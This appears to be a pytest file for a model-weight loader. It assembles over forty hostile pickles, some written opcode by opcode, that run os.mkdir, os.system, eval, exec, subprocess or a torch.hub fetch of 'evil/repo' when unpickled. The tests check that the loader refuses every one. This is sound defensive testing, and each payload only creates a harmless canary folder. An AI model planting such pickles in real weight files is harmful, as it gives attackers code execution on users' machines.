"""Pickles that run code when they are unpickled: each tries to make the folder CANARY.

Raw ones are written opcode by opcode, because no pickler makes them.
"""

from __future__ import annotations

import contextlib
import json
import os
import pickle
import struct
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from llm_run.core.convert.source import open_tensors
from llm_run.core.errors import WeightError

LEFT_ASLEEP = ("import", "torch hub", "torch load", "paddle load")
"""Of the corpus: what would open a browser, use the network, or import a library for seconds."""


class _Bomb:
    """Pickles as a call."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> Any:
        return self.call


def _text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def corpus(canary: Path) -> dict[str, bytes]:
    """Return the pickles by name."""
    code = f"__import__('os').mkdir({str(canary)!r})"
    bombs: dict[str, Any] = {
        "mkdir": _Bomb(os.mkdir, str(canary)),
        "eval": _Bomb(eval, code),
        "exec": _Bomb(exec, code),
        "system": _Bomb(os.system, f"mkdir {canary}"),
        "nested": _Bomb(pickle.loads, pickle.dumps(_Bomb(os.mkdir, str(canary)))),
    }
    pickles = {
        f"{name}, protocol {protocol}": pickle.dumps({"w": bomb}, protocol)
        for name, bomb in bombs.items()
        for protocol in range(pickle.HIGHEST_PROTOCOL + 1)
    }
    target = _text(str(canary))
    state = _text("a") + b"}" + b"b"
    raw = {
        "GLOBAL": b"\x80\x02cos\nmkdir\n" + target + b"\x85R.",
        "STACK_GLOBAL": b"\x80\x04" + _text("os") + _text("mkdir") + b"\x93" + target + b"\x85R.",
        "INST": b"(" + target + b"ios\nmkdir\n.",
        "OBJ": b"(cos\nmkdir\n" + target + b"o.",
        "NEWOBJ": b"\x80\x02cbuiltins\nmap\ncos\nmkdir\n](" + target + b"e\x86\x81cbuiltins\nlist\nq\x000h\x00.",
        "NEWOBJ_EX": b"\x80\x04cos\nmkdir\n" + target + b"\x85}\x92.",
        "EXT1": b"\x80\x02\x82\x01" + target + b"\x85R.",
        "BUILD after a call": b"\x80\x02cos\nmkdir\n" + target + b"\x85R}b.",
        "BUILD that replaces methods": b"\x80\x02ccollections\nOrderedDict\n)R}" + _text("items") + b"cos\nmkdir\nsb.",
        "dotted name": b"\x80\x04" + _text("collections") + _text("abc.sys.modules") + b"\x93.",
        "dotted name through an allowed module": b"\x80\x04" + _text("torch._utils") + _text("os.mkdir") + b"\x93"
        + target + b"\x85R.",
        "allowed pair with a blank": b"\x80\x02cos mkdir\nx\n" + target + b"\x85R.",
        "truncated after the payload": b"\x80\x02cos\nmkdir\n" + target + b"\x85R",
        "payload beside a tensor name": b"\x80\x02}" + _text("w") + b"cos\nmkdir\n" + target + b"\x85Rs.",
        "payload in a persistent id": b"\x80\x02cos\nmkdir\n" + target + b"\x85RQ.",
        "payload in a key": b"\x80\x02}cos\nmkdir\n" + target + b"\x85RK\x01s.",
        "payload popped before the end": b"\x80\x02cos\nmkdir\n" + target + b"\x85R0}.",
        "payload in the memo": b"\x80\x02cos\nmkdir\nq\x00" + b"0h\x00" + target + b"\x85R.",
        "text persistent id": b"P" + str(canary).encode() + b"\n.",
        "getattr": b"\x80\x02cbuiltins\ngetattr\ncos\n__dict__\n" + _text("mkdir") + b"\x86R" + target + b"\x85R.",
        "numpy load": b"\x80\x02cnumpy\nload\n" + target + b"\x85R.",
        "numpy scalar of objects": b"\x80\x02cnumpy.core.multiarray\nscalar\ncnumpy\ndtype\n" + _text("O8") + b"\x85R"
        + _text("x") + b"\x86R.",
        "numpy exec_command": b"\x80\x02cnumpy.testing._private.utils\nrunstring\n" + _text(code) + b"}\x86R.",
        "torch load": b"\x80\x02ctorch\nload\n" + target + b"\x85R.",
        "torch hub": b"\x80\x02ctorch.hub\nload\n" + _text("evil/repo") + _text("x") + b"\x86R.",
        "torch jit": b"\x80\x02ctorch.jit._recursive\neval\n" + _text(code) + b"\x85R.",
        "paddle load": b"\x80\x02cpaddle\nload\n" + target + b"\x85R.",
        "codecs by another name": b"\x80\x02c_codecs\nlookup\n" + _text("x") + b"\x85R.",
        "partial": b"\x80\x02cfunctools\npartial\ncos\nmkdir\n\x85R" + target + b"\x85R.",
        "subprocess": b"\x80\x02csubprocess\ncall\n](" + _text("mkdir") + target + b"e\x85R.",
        "import": b"\x80\x02cimportlib\nimport_module\n" + _text("antigravity") + b"\x85R.",
        "state of a set": b"\x80\x02cbuiltins\nset\n]\x85R" + state + b".",
    }  # fmt: skip
    return {**pickles, **raw}


def _put(kind: str, content: bytes, directory: Path) -> Path:
    """Wrap a pickle as a weight file."""
    if kind == "bin, zip":
        with zipfile.ZipFile(directory / "pytorch_model.bin", "w") as archive:
            archive.writestr("archive/data.pkl", content)
            archive.writestr("archive/data/0", b"\0" * 64)
    elif kind == "bin, legacy":
        (directory / "pytorch_model.bin").write_bytes(content)
    elif kind == "pdparams":
        (directory / "model_state.pdparams").write_bytes(content)
    else:
        (directory / "shard.pdparams").write_bytes(content)
        index = {"weight_map": {"w": "shard.pdparams"}}
        (directory / "model_state.pdparams.index.json").write_text(json.dumps(index))
    return directory


@pytest.mark.parametrize("kind", ["bin, zip", "bin, legacy", "pdparams", "pdparams, sharded"])
def test_no_hostile_pickle_runs(kind: str, tmp_path: Path) -> None:
    canary = tmp_path / "canary"
    hostile = corpus(canary)
    assert len(hostile) >= 40
    modules = set(sys.modules)
    for number, (name, content) in enumerate(hostile.items()):
        directory = tmp_path / str(number)
        directory.mkdir()
        with pytest.raises(WeightError) as caught:
            open_tensors(_put(kind, content, directory))
        assert not canary.exists(), name
        assert str(directory) in str(caught.value)
    assert "antigravity" not in set(sys.modules) - modules


def test_the_hostile_corpus_is_live(tmp_path: Path) -> None:
    fired = 0
    for number, name in enumerate(corpus(tmp_path)):
        canary = tmp_path / str(number)
        if name not in LEFT_ASLEEP:
            with contextlib.suppress(Exception):
                pickle.loads(corpus(canary)[name])
        fired += canary.exists()
    assert fired >= 40
